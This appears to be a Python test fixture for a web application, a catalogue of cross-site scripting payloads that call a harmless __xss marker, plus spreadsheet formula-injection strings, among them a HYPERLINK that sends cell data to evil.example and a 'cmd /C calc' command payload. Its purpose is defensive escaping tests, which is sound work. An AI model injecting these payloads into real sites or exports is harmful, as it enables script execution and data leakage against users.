"""A corpus of cross-site scripting payloads for every text a user can type into the hub.

Each payload, if the browser ever runs it, calls ``__xss('<id>')`` (or opens an alert with
its id), so a test can tell which one escaped. The test exposes ``__xss`` in every frame of
the page and records dialogs. ``SHORT`` fits fields of 100 characters (names, tags).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text: `id` is what it reports when it runs."""

    id: str
    text: str

    @property
    def shown(self) -> str:
        """The text as a page shows it: whitespace collapsed, control characters dropped."""
        kept = "".join(ch for ch in self.text if ch.isprintable() or ch.isspace())
        return " ".join(kept.split())


def _p(id_: str, template: str) -> Payload:
    return Payload(id_, template.replace("X()", f"__xss('{id_}')"))


PAYLOADS: tuple[Payload, ...] = (
    # script tags
    _p("script", "<script>X()</script>"),
    _p("script-src", "<script src=\"data:text/javascript,X()\"></script>"),
    _p("svg-script", "<svg><script>X()</script></svg>"),
    # event handlers
    _p("img-onerror", "<img src=x onerror=\"X()\">"),
    _p("img-case", "<IMG SRC=x oNeRrOr=X()>"),
    _p("svg-onload", "<svg onload=X()>"),
    _p("details", "<details open ontoggle=X()>"),
    _p("autofocus", "<input autofocus onfocus=X()>"),
    _p("body", "<body onload=X()>"),
    # links and URLs
    _p("js-link", "<a href=\"javascript:X()\">x</a>"),
    _p("js-case", "<a href=\"JaVaScRiPt:X()\">x</a>"),
    _p("js-entity", "<a href=\"&#106;avascript:X()\">x</a>"),
    _p("js-tab", "<a href=\"java&#x09;script:X()\">x</a>"),
    _p("md-link", "[click](javascript:X())"),
    _p("md-entity", "[click](&#106;avascript:X())"),
    _p("md-auto", "<javascript:X()>"),
    _p("data-link", "<a href=\"data:text/html,<script>X()</script>\">x</a>"),
    _p("iframe", "<iframe srcdoc=\"<script>parent.X()</script>\"></iframe>"),
    _p("form", "<form action=javascript:X()><button>go</button></form>"),
    # breaking out of attributes, elements and scripts
    _p("attr-dq", "\"><img src=x onerror=X()>"),
    _p("attr-sq", "'><svg onload=X()>"),
    _p("attr-focus", "\" autofocus onfocus=\"X()\" x=\""),
    _p("textarea", "</textarea><script>X()</script>"),
    _p("title", "</title><script>X()</script>"),
    _p("script-close", "</script><script>X()</script>"),
    _p("js-string", "';X();//\";X();//"),
    _p("backtick", "${X()}`;X();`"),
    # templates, styles, mutation
    _p("template", "{{7*7}} {{constructor.constructor('X()')()}} #{7*7} <%= 7*7 %>"),
    _p("style", "</style><style>*{background:url(javascript:X())}</style>"),
    _p("css", "<div style=\"width:expression(X())\">x</div>"),
    _p("math", "<math><mtext><table><mglyph><style><img src=x onerror=X()>"),
    _p("noscript", "<noscript><p title=\"</noscript><img src=x onerror=X()>\">"),
    # encodings and unicode
    _p("entities", "&lt;script&gt;X()&lt;/script&gt; &#60;img src=x onerror=X()&#62;"),
    _p("percent", "%3Cscript%3EX()%3C%2Fscript%3E"),
    _p("nul", "<scr\x00ipt>X()</scr\x00ipt><img src=x \x00onerror=X()>"),
    _p("unicode", "\u202e\uff1cscript\uff1eX()\uff1c/script\uff1e \u2028<svg/onload=X()>"),
)

#: The ones that fit a 100-character field (a name, a tag).
SHORT: tuple[Payload, ...] = tuple(p for p in PAYLOADS if len(p.text) <= 100)

#: Text a spreadsheet would run as a formula (CSV and XLSX exports must neutralise it).
FORMULAS: tuple[str, ...] = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

BY_ID = {p.id: p for p in PAYLOADS}


def payload(id_: str) -> Payload:
    """The payload of this id."""
    return BY_ID[id_]


def cycle(n: int, pool: tuple[Payload, ...] = PAYLOADS) -> list[Payload]:
    """`n` payloads, going round the pool."""
    return [pool[i % len(pool)] for i in range(n)]


def combined(*ids: str) -> str:
    """Several payloads in one text (for a single field that must hold many)."""
    return " ".join(BY_ID[i].text for i in ids)
